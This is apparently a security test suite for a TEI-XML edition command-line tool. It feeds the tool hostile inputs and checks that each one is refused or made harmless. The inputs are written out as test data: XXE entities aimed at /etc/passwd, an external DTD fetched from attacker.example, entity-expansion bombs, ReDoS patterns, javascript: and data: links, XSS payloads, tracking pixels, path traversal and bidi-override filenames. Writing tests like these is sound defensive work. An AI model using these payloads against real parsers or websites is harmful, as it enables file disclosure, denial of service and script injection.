import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative, resolve } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchBrowser, noBrowser } from '../helpers/browser.js';

// Hostile documents and careless commands, each run through the real CLI in a folder of its own:
// every case asserts the exit code and the message, that the source files are unchanged (hash),
// that nothing was written outside the case's output folder (every file of the case folder and of
// its TMPDIR listed before and after), no stack trace and, for the HTML, what a real browser
// loads and runs: no script, no request, no live javascript: link.
const root = resolve(import.meta.dirname, '..', '..');
const bin = join(root, 'bin', 'diwan.js');
const tmp = mkdtempSync(join(tmpdir(), 'diwan-hostile-doc-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const TEI = 'http://www.tei-c.org/ns/1.0';
const head = (extra = '') =>
  `<teiHeader><fileDesc><titleStmt><title>Hostile</title></titleStmt><publicationStmt><p>Test.</p></publicationStmt><sourceDesc><p>Test.</p></sourceDesc></fileDesc>${extra}</teiHeader>`;
/** A small TEI document with `body` as its body, and optional prolog and header additions. */
const tei = (body: string, opts: { prolog?: string; header?: string } = {}) =>
  `<?xml version="1.0" encoding="UTF-8"?>\n${opts.prolog ?? ''}<TEI xmlns="${TEI}" xml:lang="en">${head(opts.header)}<text><body>${body}</body></text></TEI>\n`;
/** A schema that accepts any XML, for build cases whose point is not validation. */
const ANY_RNG =
  '<grammar xmlns="http://relaxng.org/ns/structure/1.0"><start><ref name="any"/></start><define name="any"><element><anyName/><zeroOrMore><choice><attribute><anyName/></attribute><text/><ref name="any"/></choice></zeroOrMore></element></define></grammar>';
const buildable = (body: string) => tei(body, { prolog: '<?xml-model href="any.rng" schematypens="http://relaxng.org/ns/structure/1.0"?>\n' });
const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d4948445200000001000000010806000000' + '1f15c4890000000d49444154789c6300010000050001' + '0d0a2db40000000049454e44ae426082',
  'hex',
);

interface Case {
  name: string;
  /** Files of the case folder (relative name → content); `doc.xml` is the usual input. */
  files: Record<string, string | Buffer>;
  /** Symbolic links to make (relative name → target). */
  links?: Record<string, string>;
  /** The command, with OUT standing for the output path. */
  args: string[];
  code: number;
  /** What the output (stdout + stderr) must say, and must not. */
  says?: RegExp[];
  never?: RegExp[];
  /** The HTML output file to open in a browser (relative to the case folder). */
  html?: string;
  /** Checks on the output folder. */
  after?: (dir: string) => void;
}

const PASSWD = /root:x:0:0|root:\*:0:0/;
const html = (doc: string): Pick<Case, 'files' | 'args' | 'html'> => ({
  files: { 'doc.xml': doc },
  args: ['html', 'doc.xml', '-o', 'out/page.html'],
  html: 'out/page.html',
});

const cases: Case[] = [
  // --- the parse stage: entities, DTDs, bombs, bytes ---
  {
    name: 'external entity (XXE) to /etc/passwd',
    files: { 'doc.xml': tei('<p>&x;</p>', { prolog: '<!DOCTYPE TEI [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n' }) },
    args: ['validate', 'doc.xml'],
    code: 1,
    says: [/doc\.xml:2:\d+: error: .*external entit/i],
    never: [PASSWD],
  },
  {
    name: 'external parameter entity',
    files: { 'doc.xml': tei('<p>x</p>', { prolog: '<!DOCTYPE TEI [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>\n' }) },
    args: ['validate', 'doc.xml'],
    code: 1,
    says: [/doc\.xml:2:\d+: error: /],
  },
  {
    name: 'an external DTD subset is never read',
    files: { 'doc.xml': tei('<p>x</p>', { prolog: '<!DOCTYPE TEI SYSTEM "file:///etc/passwd">\n' }) },
    args: ['html', 'doc.xml', '-o', 'out/p.html'],
    code: -1,
    never: [PASSWD],
    after: (d) => expect(existsSync(join(d, 'out/p.html')) ? readFileSync(join(d, 'out/p.html'), 'utf8') : '').not.toMatch(PASSWD),
  },
  {
    name: 'billion laughs',
    files: {
      'doc.xml': `<?xml version="1.0"?><!DOCTYPE TEI [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY e${i + 1} "${`&${i ? `e${i}` : 'a'};`.repeat(10)}">`).join('')}]><TEI xmlns="${TEI}">${head()}<text><body><p>&e9;</p></body></text></TEI>`,
    },
    args: ['validate', 'doc.xml'],
    code: 1,
    says: [/entit/i],
  },
  {
    name: 'quadratic blow-up',
    files: {
      'doc.xml': `<?xml version="1.0"?><!DOCTYPE TEI [<!ENTITY a "${'x'.repeat(20_000)}">]><TEI xmlns="${TEI}">${head()}<text><body><p>${'&a;'.repeat(20_000)}</p></body></text></TEI>`,
    },
    args: ['validate', 'doc.xml'],
    code: 1,
    says: [/expand to more than/],
  },
  {
    name: 'internal character entities are fine',
    files: { 'doc.xml': tei('<p>a&mdash;b</p>', { prolog: '<!DOCTYPE TEI [<!ENTITY mdash "&#x2014;">]>\n' }) },
    args: ['text', 'doc.xml', '-o', 'out/t.txt'],
    code: 0,
    after: (d) => expect(readFileSync(join(d, 'out/t.txt'), 'utf8')).toContain('a\u2014b'),
  },
  {
    name: 'nesting at the depth limit builds',
    // TEI, text, body, p and 251 hi: 255 levels, one under the limit.
    files: { 'doc.xml': tei(`<p>${'<hi>'.repeat(251)}x${'</hi>'.repeat(251)}</p>`) },
    args: ['html', 'doc.xml', '-o', 'out/p.html'],
    code: 0,
  },
  {
    name: 'nesting past the depth limit is refused with the limit',
    files: { 'doc.xml': tei(`<p>${'<hi>'.repeat(600)}x${'</hi>'.repeat(600)}</p>`) },
    args: ['html', 'doc.xml', '-o', 'out/p.html'],
    code: 1,
    says: [/nested deeper than 256 levels/],
    after: (d) => expect(existsSync(join(d, 'out/p.html'))).toBe(false),
  },
  {
    name: '100,000-deep nesting is refused fast',
    files: { 'doc.xml': `<a>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</a>` },
    args: ['validate', 'doc.xml'],
    code: 1,
    says: [/nested deeper/],
  },
  {
    name: 'not well-formed: file:line:col and what was expected',
    files: { 'doc.xml': tei('<p>open</q>') },
    args: ['validate', 'doc.xml'],
    code: 1,
    says: [/doc\.xml:2:\d+: error: /],
  },
  {
    name: 'invalid UTF-8 bytes',
    files: { 'doc.xml': Buffer.concat([Buffer.from(tei('<p>').slice(0, -30)), Buffer.from([0xc3, 0x28]), Buffer.from('</p></body></text></TEI>')]) },
    args: ['validate', 'doc.xml'],
    code: 1,
    says: [/UTF-8/],
  },
  { name: 'NUL character', files: { 'doc.xml': tei('<p>a\u0000b</p>') }, args: ['validate', 'doc.xml'], code: 1, says: [/doc\.xml:2:\d+: error: /] },
  {
    name: 'declared ISO-8859-1 over UTF-8 bytes is warned',
    files: { 'doc.xml': tei('<p>قال</p>').replace('encoding="UTF-8"', 'encoding="ISO-8859-1"') },
    args: ['validate', 'doc.xml'],
    code: -1,
    says: [/warning: .*(UTF-8|ISO-8859-1)/],
  },
  { name: 'an empty file', files: { 'doc.xml': '' }, args: ['validate', 'doc.xml'], code: 1, says: [/doc\.xml:\d+:\d+: error: /] },
  { name: 'a folder given as the document', files: { 'x/keep': 'x' }, args: ['validate', 'x'], code: 2, says: [/x:0:0: error: is a directory/] },
  {
    name: 'an <html> root is refused in build',
    files: { 'eds/doc/doc.xml': '<html xmlns="http://www.w3.org/1999/xhtml"><body>x</body></html>' },
    args: ['build', 'eds', '-o', 'out', '--no-pdf'],
    code: 1,
    says: [/expected a TEI document/],
    after: (d) => expect(existsSync(join(d, 'out', 'doc', 'index.html'))).toBe(false),
  },
  {
    name: 'a TEI P4 root is refused with advice',
    files: { 'eds/doc/doc.xml': '<TEI.2><teiHeader/><text><body><p>x</p></body></text></TEI.2>' },
    args: ['build', 'eds', '-o', 'out', '--no-pdf'],
    code: 1,
    says: [/TEI P4/],
  },
  {
    name: 'a comment with </teiHeader> in the header builds',
    files: { 'doc.xml': tei('<p>x</p>', { header: '<!-- </teiHeader> <text> -->' }) },
    args: ['html', 'doc.xml', '-o', 'out/p.html'],
    code: 0,
  },

  // --- schemas a document names ---
  {
    name: 'xml-model with an absolute path is refused, the file not opened',
    files: {
      'doc.xml': tei('<p>x</p>', { prolog: '<?xml-model href="/etc/passwd" type="application/xml" schematypens="http://relaxng.org/ns/structure/1.0"?>\n' }),
    },
    args: ['validate', 'doc.xml'],
    code: 3,
    says: [/xml-model schema \/etc\/passwd is refused/, /not validated/],
    never: [PASSWD],
  },
  {
    name: 'xml-model with a file: URL is refused',
    files: { 'doc.xml': tei('<p>x</p>', { prolog: '<?xml-model href="file:///etc/passwd" schematypens="http://purl.oclc.org/dsdl/schematron"?>\n' }) },
    args: ['validate', 'doc.xml'],
    code: 3,
    says: [/is refused/],
    never: [PASSWD],
  },
  {
    name: 'xml-model climbing out to a file that is no schema is refused',
    files: {
      'doc.xml': tei('<p>x</p>', { prolog: `<?xml-model href="${'../'.repeat(12)}etc/passwd" schematypens="http://relaxng.org/ns/structure/1.0"?>\n` }),
    },
    args: ['validate', 'doc.xml'],
    code: 3,
    says: [/is refused: it does not name a RELAX NG/],
    never: [PASSWD],
  },
  {
    name: 'xml-model in a project leading outside it is refused',
    files: {
      'diwan.config.json': '{}\n',
      'doc.xml': tei('<p>x</p>', { prolog: `<?xml-model href="../outside.rng" schematypens="http://relaxng.org/ns/structure/1.0"?>\n` }),
    },
    args: ['validate', 'doc.xml'],
    code: 3,
    says: [/leads outside the document's project/],
  },
  {
    name: 'xml-model naming a remote schema is not fetched',
    files: {
      'doc.xml': tei('<p>x</p>', { prolog: '<?xml-model href="https://attacker.example/s.rng" schematypens="http://relaxng.org/ns/structure/1.0"?>\n' }),
    },
    args: ['validate', 'doc.xml', '-q'],
    code: 3,
    says: [/not validated/],
  },
  {
    name: 'xml-model naming a relative schema beside the document is used',
    files: {
      's.sch':
        '<schema xmlns="http://purl.oclc.org/dsdl/schematron" queryBinding="xslt2"><ns prefix="t" uri="http://www.tei-c.org/ns/1.0"/><pattern><rule context="t:p"><report test="true()">a paragraph</report></rule></pattern></schema>',
      'doc.xml': tei('<p>x</p>', { prolog: '<?xml-model href="s.sch" schematypens="http://purl.oclc.org/dsdl/schematron"?>\n' }),
    },
    args: ['validate', 'doc.xml'],
    code: 1,
    says: [/a paragraph/],
  },

  // --- regular expressions from documents ---
  {
    name: 'prefixDef (a+)+$ with a long pointer does not hang validate',
    files: {
      'doc.xml': tei(`<p><persName ref="x:${'a'.repeat(60)}b">n</persName></p>`, {
        header: '<encodingDesc><listPrefixDef><prefixDef ident="x" matchPattern="(a+)+$" replacementPattern="#$1"/></listPrefixDef></encodingDesc>',
      }),
    },
    args: ['validate', 'doc.xml'],
    code: -1,
    says: [/do not match its @matchPattern/],
  },
  {
    name: 'prefixDef (a+)+$ does not hang html',
    ...html(
      tei(`<p><persName ref="x:${'a'.repeat(60)}b">n</persName></p>`, {
        header: '<encodingDesc><listPrefixDef><prefixDef ident="x" matchPattern="(a+)+$" replacementPattern="#$1"/></listPrefixDef></encodingDesc>',
      }),
    ),
    code: 0,
  },
  {
    name: 'prefixDef with a back-reference is warned, not run',
    files: {
      'doc.xml': tei('<p><persName ref="x:aa">n</persName></p>', {
        header: '<encodingDesc><listPrefixDef><prefixDef ident="x" matchPattern="(a)\\1" replacementPattern="#$1"/></listPrefixDef></encodingDesc>',
      }),
    },
    args: ['validate', 'doc.xml'],
    code: -1,
    says: [/cannot be evaluated .*back-references/],
  },
  {
    name: 'prefixDef expanding to javascript: makes no live link',
    ...html(
      tei('<p><ref target="js:alert(1)">click</ref></p>', {
        header: '<encodingDesc><listPrefixDef><prefixDef ident="js" matchPattern="(.+)" replacementPattern="javascript:$1"/></listPrefixDef></encodingDesc>',
      }),
    ),
    code: 0,
  },
  {
    name: 'prefixDef expansions work',
    ...html(
      tei('<p><ref target="wd:Q649">Moscow</ref></p>', {
        header:
          '<encodingDesc><listPrefixDef><prefixDef ident="wd" matchPattern="(Q\\d+)" replacementPattern="https://www.wikidata.org/wiki/$1"/></listPrefixDef></encodingDesc>',
      }),
    ),
    code: 0,
    after: (d) => expect(readFileSync(join(d, 'out/page.html'), 'utf8')).toContain('href="https://www.wikidata.org/wiki/Q649"'),
  },

  // --- content that would run or load something in a reader's browser ---
  { name: 'javascript: link', ...html(tei('<p><ref target="javascript:alert(1)">x</ref></p>')), code: 0 },
  { name: 'JaVaScRiPt: with entities and spaces', ...html(tei('<p><ref target=" JaVa&#x09;ScRiPt:alert(1)">x</ref></p>')), code: 0 },
  { name: 'data:text/html link', ...html(tei('<p><ref target="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</ref></p>')), code: 0 },
  { name: 'vbscript: and file: links', ...html(tei('<p><ref target="vbscript:msgbox(1)">a</ref> <ptr target="file:///etc/passwd"/></p>')), code: 0 },
  {
    name: 'escaped markup in text stays text',
    ...html(tei('<p>&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;</p>')),
    code: 0,
    after: (d) => expect(readFileSync(join(d, 'out/page.html'), 'utf8')).toContain('&lt;script&gt;'),
  },
  { name: 'XHTML script element inside TEI', ...html(tei('<p>x<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></p>')), code: -1 },
  {
    name: 'style attribute with a remote url()',
    ...html(tei('<p><hi style="background:url(https://tracker.example/p.gif)" rend="color:red">x</hi></p>')),
    code: 0,
  },
  { name: 'quotes in xml:lang', ...html(tei(`<p xml:lang='en" onmouseover="alert(1)'>x</p>`)), code: -1 },
  {
    name: 'a remote image is not loaded (tracking pixel)',
    ...html(tei('<p><figure><graphic url="https://tracker.example/pixel.gif"/></figure></p>')),
    code: 0,
    says: [/image https:\/\/tracker\.example\/pixel\.gif is not loaded/],
  },
  {
    name: 'a protocol-relative image is not loaded',
    ...html(tei('<p><figure><graphic url="//tracker.example/p.gif"/></figure></p>')),
    code: 0,
    says: [/is not loaded/],
  },
  {
    name: 'an absolute image path is not copied',
    files: { 'eds/doc/any.rng': ANY_RNG, 'eds/doc/doc.xml': buildable('<p><figure><graphic url="/etc/passwd.png"/></figure></p>') },
    args: ['build', 'eds', '-o', 'out', '--no-pdf'],
    code: 0,
    says: [/outside the edition's folder/],
    after: (d) => expect(existsSync(join(d, 'out/doc/media'))).toBe(false),
  },
  {
    name: 'an image outside the edition folder is not copied',
    files: { 'eds/ed/any.rng': ANY_RNG, 'eds/ed/ed.xml': buildable('<p><figure><graphic url="../secret.png"/></figure></p>'), 'eds/secret.png': PNG },
    args: ['build', 'eds', '-o', 'out', '--no-pdf'],
    code: 0,
    says: [/outside the edition's folder/],
    after: (d) => expect(existsSync(join(d, 'out/ed/media'))).toBe(false),
  },
  {
    name: 'an image that is a link out is not copied',
    files: { 'eds/doc/any.rng': ANY_RNG, 'eds/doc/doc.xml': buildable('<p><figure><graphic url="img.png"/></figure></p>') },
    links: { 'eds/doc/img.png': '/etc/hostname' },
    args: ['build', 'eds', '-o', 'out', '--no-pdf'],
    code: 0,
    says: [/(link leading outside|not a image\/png|not copied)/],
    after: (d) => expect(existsSync(join(d, 'out/doc/media'))).toBe(false),
  },
  {
    name: 'an image whose bytes are not its format is not copied',
    files: {
      'eds/doc/any.rng': ANY_RNG,
      'eds/doc/doc.xml': buildable('<p><figure><graphic url="img.png"/></figure></p>'),
      'eds/doc/img.png': '<svg onload="alert(1)"/>',
    },
    args: ['build', 'eds', '-o', 'out', '--no-pdf'],
    code: 0,
    says: [/not a image\/png file/],
  },
  {
    name: 'a local image is copied into the edition and shown',
    files: {
      'eds/doc/any.rng': ANY_RNG,
      'eds/doc/doc.xml': buildable('<p><figure><graphic url="img.png"/><figDesc>a dot</figDesc></figure></p>'),
      'eds/doc/img.png': PNG,
    },
    args: ['build', 'eds', '-o', 'out', '--no-pdf'],
    code: 0,
    html: 'out/doc/index.html',
    after: (d) => {
      expect(readFileSync(join(d, 'out/doc/media/img.png'))).toEqual(PNG);
      expect(readFileSync(join(d, 'out/doc/index.html'), 'utf8')).toMatch(/<img src="media\/img\.png" alt="a dot"/);
    },
  },
  {
    name: 'diwan html -o one page carries its images as data: URIs',
    files: { 'doc.xml': tei('<p><figure><graphic url="img.png"/></figure></p>'), 'img.png': PNG },
    args: ['html', 'doc.xml', '-o', 'out/p.html'],
    code: 0,
    after: (d) => expect(readFileSync(join(d, 'out/p.html'), 'utf8')).toContain('src="data:image/png;base64,'),
  },
  {
    name: 'an SVG data: image is not shown',
    ...html(tei('<p><figure><graphic url="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/></figure></p>')),
    code: 0,
  },
  {
    name: 'a right-to-left override in a name is warned and isolated',
    files: { 'doc.xml': tei('<p><persName>evil\u202Egnp.exe</persName> and after</p>') },
    args: ['validate', 'doc.xml'],
    code: -1,
    says: [/doc\.xml:2:\d+: warning: U\+202E RIGHT-TO-LEFT OVERRIDE/],
    after: (d) => {
      expect(run(d, ['html', 'doc.xml', '-o', 'out/p.html']).code).toBe(0);
      expect(readFileSync(join(d, 'out/p.html'), 'utf8')).toMatch(/<bdi class="bidi-controls">evil\u202Egnp\.exe<\/bdi>/);
    },
  },
  {
    name: 'a bidi override written as a character reference is warned',
    files: { 'doc.xml': tei('<p>a&#x202E;b</p>') },
    args: ['validate', 'doc.xml'],
    code: -1,
    says: [/U\+202E RIGHT-TO-LEFT OVERRIDE/],
  },

  // --- careless commands ---
  {
    name: 'init: a source ending in a newline builds',
    files: { 's.txt': 'Title\n\nFirst paragraph.\n' },
    args: ['init', 's.txt', '--slug', 'e', '-o', 'eds'],
    code: 0,
    after: (d) => expect(run(d, ['build', 'eds', '-o', 'out', '--no-pdf']).code).toBe(0),
  },
  {
    name: 'init: CR LF line ends are normalised, declared, and the edition builds',
    files: { 's.txt': 'Title\r\n\r\nOne.\r\nTwo.\r\n' },
    args: ['init', 's.txt', '--slug', 'e', '-o', 'eds'],
    code: 0,
    says: [/declared in the header: Line ends are normalised/],
    after: (d) => {
      expect(readFileSync(join(d, 'eds/e/e.xml'), 'utf8')).toContain('<normalization n="diwan:line-ends">');
      expect(readFileSync(join(d, 'eds/e/source.txt'), 'utf8')).toBe('Title\r\n\r\nOne.\r\nTwo.\r\n');
      expect(run(d, ['build', 'eds', '-o', 'out', '--no-pdf']).code).toBe(0);
    },
  },
  {
    name: 'init: a control character is refused at its position',
    files: { 's.txt': 'Title\n\nbad \u0001 char\n' },
    args: ['init', 's.txt', '--slug', 'e', '-o', 'eds'],
    code: 1,
    says: [/s\.txt:3:5: error: character U\+0001/],
    after: (d) => expect(existsSync(join(d, 'eds'))).toBe(false),
  },
  {
    name: 'init: an existing source.txt is never replaced',
    files: { 's.txt': 'New\n', 'eds/e/source.txt': 'Old\n' },
    args: ['init', 's.txt', '--slug', 'e', '-o', 'eds'],
    code: 2,
    says: [/source\.txt:0:0: error: already exists/],
  },
  { name: 'init: a slug with ../ is refused', files: { 's.txt': 'T\n' }, args: ['init', 's.txt', '--slug', '../evil', '-o', 'eds'], code: 2, says: [/--slug/] },
  {
    name: 'init: not UTF-8',
    files: { 's.txt': Buffer.from([0x54, 0xff, 0xfe, 0x0a]) },
    args: ['init', 's.txt', '--slug', 'e', '-o', 'eds'],
    code: 1,
    says: [/not valid UTF-8/],
  },
  {
    name: 'terminal escapes in a file name are shown escaped',
    files: { 'evil\u001b[31mred.xml': 'not xml' },
    args: ['validate', 'evil\u001b[31mred.xml'],
    code: 1,
    says: [/evil\\u001b\[31mred\.xml/],
    never: [/\u001b\[31m/],
  },
  {
    name: 'a missing file is counted as such, not as invalid',
    files: {},
    args: ['validate', 'nosuch.xml'],
    code: 2,
    says: [/nosuch\.xml:0:0: error: no such file/, /0 invalid, 1 could not be checked/],
  },
  {
    name: 'pdf --chrome /bin/true is one sentence',
    files: { 'doc.xml': tei('<p>x</p>') },
    args: ['pdf', 'doc.xml', '-o', 'out/d.pdf', '--chrome', '/bin/true'],
    code: 2,
    says: [/the browser \/bin\/true did not start/],
    never: [/internal error/, /Call log/],
    after: (d) => expect(existsSync(join(d, 'out/d.pdf'))).toBe(false),
  },
  {
    name: 'html -o an existing folder is refused',
    files: { 'doc.xml': tei('<p>x</p>'), 'out/keep': 'k' },
    args: ['html', 'doc.xml', '-o', 'out'],
    code: 2,
    says: [/out:0:0: error: is a folder/],
  },
];

function listAll(dir: string): Map<string, string> {
  const files = new Map<string, string>();
  if (!existsSync(dir)) return files;
  for (const e of readdirSync(dir, { withFileTypes: true, recursive: true })) {
    const p = join(e.parentPath, e.name);
    const rel = relative(dir, p);
    if (e.isSymbolicLink()) files.set(rel, 'link');
    else if (e.isFile()) files.set(rel, createHash('sha256').update(readFileSync(p)).digest('hex'));
    else if (e.isDirectory()) files.set(`${rel}/`, 'dir');
  }
  return files;
}

function run(dir: string, args: string[]) {
  const env = {
    ...process.env,
    TMPDIR: join(dir, '..', `${dir.split('/').pop()}-tmp`),
    XDG_CACHE_HOME: join(dir, '..', `${dir.split('/').pop()}-cache`),
    NO_COLOR: '1',
  };
  mkdirSync(env.TMPDIR, { recursive: true });
  const r = spawnSync(process.execPath, [bin, ...args], { cwd: dir, env, encoding: 'utf8', timeout: 120_000 });
  return { code: r.status, all: `${r.stdout}${r.stderr}`, tmp: env.TMPDIR };
}

let browser: Browser | undefined;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
});

describe('hostile documents and careless commands (CLI)', () => {
  it('has at least 45 cases here (60 with test/hostile/outputs, kill and network)', () => {
    expect(cases.length).toBeGreaterThanOrEqual(45);
    expect(new Set(cases.map((c) => c.name)).size).toBe(cases.length);
  });

  cases.forEach((c, i) => {
    it(c.name, async (ctx) => {
      const dir = join(tmp, `case-${i}`);
      mkdirSync(dir, { recursive: true });
      for (const [name, content] of Object.entries(c.files)) {
        mkdirSync(join(dir, name, '..'), { recursive: true });
        writeFileSync(join(dir, name), content);
      }
      for (const [name, target] of Object.entries(c.links ?? {})) symlinkSync(target, join(dir, name));
      const before = listAll(dir);
      const r = run(dir, c.args);
      if (c.code >= 0) expect(r.code, r.all).toBe(c.code);
      else expect(r.code, r.all).not.toBeNull();
      expect(r.code, 'no crash by signal').toBeLessThanOrEqual(3);
      for (const re of c.says ?? []) expect(r.all).toMatch(re);
      for (const re of c.never ?? []) expect(r.all).not.toMatch(re);
      expect(r.all, 'no stack trace').not.toMatch(/^\s+at .+:\d+:\d+\)?$/m);
      expect(r.all).not.toMatch(/internal error/);
      // The inputs are unchanged, and everything new is under out/ or eds/ (the outputs named).
      const after = listAll(dir);
      for (const [name, hash] of before) expect(after.get(name), `${name} unchanged`).toBe(hash);
      const added = [...after.keys()].filter((n) => !before.has(n));
      expect(
        added.filter((n) => !/^(out|eds)(\/|$)/.test(n)),
        'nothing written outside the output',
      ).toEqual([]);
      expect(
        readdirSync(r.tmp).filter((n) => !/^diwan-\d+-chromium$/.test(n) || readdirSync(join(r.tmp, n)).length > 0),
        'temp folder left clean',
      ).toEqual([]);
      c.after?.(dir);
      if (c.html && existsSync(join(dir, c.html)) && statSync(join(dir, c.html)).isFile()) {
        if (!browser) return ctx.skip(noBrowser);
        await checkInBrowser(browser, join(dir, c.html));
      }
    });
  });
});

/** Opened from file:// as a reader would: no script runs, nothing outside the edition is requested, no live javascript: link. */
async function checkInBrowser(b: Browser, file: string): Promise<void> {
  const context = await b.newContext({ javaScriptEnabled: true });
  try {
    const page = await context.newPage();
    const requests: string[] = [];
    const dir = `file://${resolve(file, '..')}/`;
    page.on('request', (req) => {
      if (!req.url().startsWith(dir)) requests.push(req.url());
    });
    let dialogs = 0;
    page.on('dialog', async (d) => {
      dialogs++;
      await d.dismiss();
    });
    await page.goto(`file://${file}`, { waitUntil: 'load' });
    await page.hover('body').catch(() => {});
    const facts = await page.evaluate(() => ({
      // Executable scripts (not JSON data islands such as JSON-LD), with their text and source.
      scripts: [...document.querySelectorAll('script')]
        .filter((s) => !/json$/i.test(s.type))
        .map((s) => ({ src: s.getAttribute('src'), text: s.textContent ?? '' })),
      csp: document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
      handlers: [...document.querySelectorAll('*')].flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => a.name)),
      links: [...document.querySelectorAll('a[href]')]
        .map((a) => a.getAttribute('href') ?? '')
        .filter((h) => !/^(https?:|mailto:|#|[\w.-]+\.(xml|txt|pdf|bib|ris|json)$|media\/)/i.test(h)),
      images: [...document.images].map((i) => i.getAttribute('src') ?? '').filter((s) => !/^(media\/|data:image\/(png|jpeg|gif|webp);)/.test(s)),
    }));
    // The only script a page may carry is diwan's own cite control, allowed by its hash in the
    // page's CSP: nothing from the document becomes script.
    const allowed = new Set([...(/script-src([^;]*)/.exec(facts.csp)?.[1] ?? '').matchAll(/'sha256-([A-Za-z0-9+/=]+)'/g)].map((m) => m[1]));
    for (const sc of facts.scripts) {
      expect(sc.src, 'no external script').toBeNull();
      expect(allowed.has(createHash('sha256').update(sc.text, 'utf8').digest('base64')), 'inline script allowed by its CSP hash').toBe(true);
    }
    expect(facts.csp).not.toMatch(/unsafe-inline|unsafe-eval/);
    expect(facts.handlers).toEqual([]);
    expect(facts.links).toEqual([]);
    expect(facts.images).toEqual([]);
    expect(requests).toEqual([]);
    expect(dialogs).toBe(0);
  } finally {
    await context.close();
  }
}
